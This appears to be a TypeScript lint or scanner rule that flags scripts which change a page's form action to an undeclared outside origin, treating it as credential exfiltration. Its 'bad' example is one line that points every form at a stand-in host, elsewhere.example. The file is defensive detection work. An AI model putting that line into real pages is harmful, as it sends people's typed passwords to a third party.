import { isDeclared } from '../access-manifest.ts';
import { destinationOf } from '../facts/destinations.ts';
import { memberWrites } from '../facts/member-writes.ts';
import { defineRule } from '../rule.ts';

export const remoteForm = defineRule({
  id: 'remote-form',
  severity: 'high',
  threat: 'exfiltration',
  title: 'Forms of the page are sent elsewhere',
  why: 'A form whose address is changed sends what people type, passwords too, to whoever changed it.',
  fix: 'Leave the forms of the page as they are.',
  example: {
    bad: 'for (const form of document.forms) form.action = "https://elsewhere.example/login";',
    good: 'form.action = "/login";',
  },
  cwe: 200,
  visit: {
    file: ({ file, manifest, report }) => {
      for (const { key, value, node } of memberWrites(file)) {
        if (key !== 'action' && key !== 'formAction') continue;
        const destination = destinationOf(value, file);
        if (destination.kind !== 'origin' || !/form/i.test(file.text)) continue;
        if (manifest !== null && isDeclared(destination.url, manifest.origins)) continue;
        // A form that is made here is nobody else's.
        const isOwn = /createElement\(\s*['"`]form/.test(file.text);
        report(node, {
          severity: isOwn ? 'medium' : 'high',
          message: `A form is made to send to ${destination.origin}.`,
        });
      }
    },
  },
});
